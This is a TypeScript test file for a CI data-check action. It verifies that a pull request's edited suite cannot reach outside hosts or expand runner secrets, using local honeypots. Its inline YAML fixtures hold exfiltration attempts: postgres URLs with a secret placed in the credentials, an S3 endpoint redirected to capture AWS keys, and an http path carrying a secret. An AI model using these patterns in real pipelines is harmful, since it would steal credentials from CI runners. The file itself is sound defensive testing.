import assert from 'node:assert/strict';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { createServer, type Server } from 'node:net';
import type { AddressInfo } from 'node:net';
import { after, test } from 'node:test';
import { actionBed } from '../helpers/action-bed.ts';
import { gitRepo, type RunResult } from '../helpers/action-runner.ts';

/**
 * A pull request edits the suite to reach out with the runner's secrets: a PostgreSQL URL whose
 * user and password are `${SECRET}`, the TRUTHGATE_CONNECTION_* of the real database with its own
 * query, an S3 endpoint of its choosing with the runner's AWS keys, an https host whose path
 * carries a secret, and a secret that redaction leaves alone (a number) in a check parameter.
 * Honeypots record every connection made to them.
 */
interface Honeypot {
  port: number;
  /** Bytes received, one string per connection. */
  seen: string[];
  stop(): Promise<void>;
}

/** Records what arrives, answers HTTP with a 404 and anything else by closing, so no client waits. */
async function honeypot(): Promise<Honeypot> {
  const seen: string[] = [];
  const server: Server = createServer((sock) => {
    let got = '';
    sock.on('data', (b) => {
      got += b.toString('latin1');
      if (/^[A-Z]+ \S+ HTTP\/1\.1\r\n[\s\S]*\r\n\r\n/.test(got))
        sock.end('HTTP/1.1 404 Not Found\r\nContent-Length: 0\r\nConnection: close\r\n\r\n');
    });
    sock.on('error', () => {});
    sock.on('close', () => seen.push(got));
    setTimeout(() => sock.destroy(), 500).unref();
  });
  await new Promise<void>((r) => server.listen(0, '127.0.0.1', r));
  return {
    port: (server.address() as AddressInfo).port,
    seen,
    stop: () => new Promise<void>((r) => server.close(() => r())),
  };
}

const SECRET = 'sekrit-runner-value-7731';
const PIN = '918273'; // a number: redaction leaves numbers alone, so only not filling it in protects it
const AWS_KEY = 'AKIARUNNERKEY0000001';
const AWS_SECRET = 'runner-aws-secret-access-key-abcdef';
const secretEnv = {
  TG_TEST_SECRET: SECRET,
  TG_TEST_PIN: PIN,
  AWS_ACCESS_KEY_ID: AWS_KEY,
  AWS_SECRET_ACCESS_KEY: AWS_SECRET,
  PGPASSWORD: 'runner-pg-password-42',
};

const pots: Honeypot[] = [];
const bed = actionBed({
  pulls: {
    7: [
      { filename: 'truthgate.yml', status: 'modified' },
      { filename: 'data/orders.csv', status: 'modified' },
    ],
  },
});
after(async () => {
  await Promise.all(pots.map((p) => p.stop()));
});

const allText = (r: RunResult, body: string): string =>
  [r.stdout, r.stderr, r.summary, body, JSON.stringify(r.outputs)].join('\n');

async function run(base: string, head: string, env: Record<string, string>): Promise<[RunResult, string]> {
  const repo = gitRepo(
    { 'truthgate.yml': base, 'data/orders.csv': 'id,status\n1,paid\n' },
    { 'truthgate.yml': head, 'data/orders.csv': 'id,status\n1,paid\n2,refunded\n' },
  );
  bed.gh.comments.clear();
  const r = await bed.runPr(7, repo, { inputs: { suite: 'truthgate.yml', 'changed-only': 'false' }, env });
  const body = (bed.gh.comments.get(7) ?? []).map((c) => c.body).join('\n');
  const report = join(repo.dir, 'truthgate-report.json');
  return [r, `${body}\n${existsSync(report) ? readFileSync(report, 'utf8') : ''}`];
}

const baseSuite = `version: 1
sources:
  orders: data/orders.csv
checks:
  orders:
    - row_count: { min: 1 }
`;

test('a suite the pull request changed cannot connect anywhere or fill in a secret', async () => {
  const pot = await honeypot();
  pots.push(pot);
  const at = `127.0.0.1:${pot.port}`;
  const head = `version: 1
connections:
  evil: 'postgres://\${TG_TEST_SECRET}:\${TG_TEST_SECRET}@${at}/db'
  nopass: 'postgres://runner@${at}/db'
sources:
  orders: data/orders.csv
  exfil: { sql: { connection: evil, query: 'select 1 as a' } }
  pgpass: { sql: { connection: nopass, table: t } }
  prod: { sql: { connection: prod, query: 'select * from users' } }
  lake:
    path: 's3://bucket/orders.csv'
    storage_options: { aws_endpoint_url: 'http://${at}', aws_allow_http: true }
  web: { path: 'http://${at}/\${TG_TEST_SECRET}.csv' }
checks:
  orders:
    - row_count: { min: 1 }
    - in_set: { column: status, values: [paid, '\${TG_TEST_PIN}'] }
  exfil: [{ row_count: { min: 1 } }]
  pgpass: [{ row_count: { min: 1 } }]
  prod: [{ row_count: { min: 1 } }]
  lake: [{ row_count: { min: 1 } }]
  web: [{ row_count: { min: 1 } }]
`;
  const [r, posted] = await run(baseSuite, head, {
    ...secretEnv,
    TRUTHGATE_CONNECTION_PROD: `postgres://checker:prod-db-password-9@${at}/prod`,
  });
  assert.deepEqual(pot.seen, [], 'nothing connects to a host the pull request chose');
  const text = allText(r, posted);
  for (const s of [SECRET, PIN, AWS_KEY, AWS_SECRET, 'prod-db-password-9', 'runner-pg-password-42'])
    assert.ok(!text.includes(s), `${s} is shown`);
  assert.match(r.stdout, /::notice title=Truthgate%3A TG_ACTION_UNTRUSTED_SUITE::/);
  assert.match(r.stdout, /not run: exfil, pgpass, prod, lake, web/);
  assert.match(r.stdout, /trust-suite-changes/);
  // The file source still runs, with the pull request's checks; the PIN was never filled in.
  assert.match(posted, /orders\.in_set\.status/);
  assert.match(posted, /\$\{TG_TEST_PIN\}/);
});

test("the base branch's database and object-store sources still run, as the base branch defines them", async () => {
  const [ours, theirs] = [await honeypot(), await honeypot()];
  pots.push(ours, theirs);
  const lake = (port: number, checks: string) => `version: 1
sources:
  orders: data/orders.csv
  lake:
    path: 's3://bucket/orders.csv'
    storage_options: { aws_endpoint_url: 'http://127.0.0.1:${port}', aws_allow_http: true }
checks:
  orders:
${checks}
  lake: [{ row_count: { min: 1 } }]
`;
  const base = lake(ours.port, '    - row_count: { min: 1 }');
  // The pull request changes a file check (allowed) and points the bucket elsewhere (ignored).
  const head = lake(theirs.port, '    - row_count: { min: 2 }');
  const [r, posted] = await run(base, head, secretEnv);
  assert.deepEqual(theirs.seen, [], "the pull request's endpoint gets nothing");
  assert.ok(ours.seen.length > 0, "the base branch's endpoint is asked: " + r.stdout);
  assert.match(r.stdout, /from the base branch: lake; not run: —/);
  assert.match(posted, /row_count/);
  assert.match(posted, /expected >= 2/);

  // Unchanged suite: trusted as written, no notice.
  const [same] = await run(base, base, secretEnv);
  assert.doesNotMatch(same.stdout, /TG_ACTION_UNTRUSTED_SUITE/);
});

test("trust-suite-changes: 'true' reads the changed suite as written", async () => {
  const pot = await honeypot();
  pots.push(pot);
  const head = `version: 1
sources:
  orders: data/orders.csv
  lake:
    path: 's3://bucket/orders.csv'
    storage_options: { aws_endpoint_url: 'http://127.0.0.1:${pot.port}', aws_allow_http: true }
checks:
  orders: [{ row_count: { min: 1 } }]
  lake: [{ row_count: { min: 1 } }]
`;
  const repo = gitRepo(
    { 'truthgate.yml': baseSuite, 'data/orders.csv': 'id\n1\n' },
    { 'truthgate.yml': head },
  );
  const r = await bed.runPr(7, repo, {
    inputs: {
      suite: 'truthgate.yml',
      'changed-only': 'false',
      'trust-suite-changes': 'true',
      comment: 'off',
    },
    env: secretEnv,
  });
  assert.doesNotMatch(r.stdout, /TG_ACTION_UNTRUSTED_SUITE/);
  assert.ok(pot.seen.length > 0, r.stdout);
});

test('a trusted suite’s `${ENV}` values are redacted in the comment, summary, annotations, log and report', async () => {
  const secret = 'runner_secret_value_x9'; // `_` is escaped in Markdown: redaction must come first
  const suite = `version: 1
sources:
  orders: data/orders.csv
checks:
  orders:
    - in_set: { column: status, values: [paid, '\${TG_TEST_SECRET2}'] }
    - regex: { column: status, pattern: '^(paid|\${TG_TEST_SECRET2})$', where: "status <> '\${TG_TEST_SECRET2}'" }
`;
  const [r, posted] = await run(suite, suite, { ...secretEnv, TG_TEST_SECRET2: secret });
  assert.doesNotMatch(r.stdout, /TG_ACTION_UNTRUSTED_SUITE/, 'unchanged: trusted');
  assert.match(posted, /orders\.in_set\.status/);
  assert.match(posted, /\$\{TG_TEST_SECRET2\}/);
  const text = allText(r, posted);
  assert.ok(!text.includes(secret) && !text.includes(secret.replace(/_/g, '\\_')), 'the secret is shown');
});
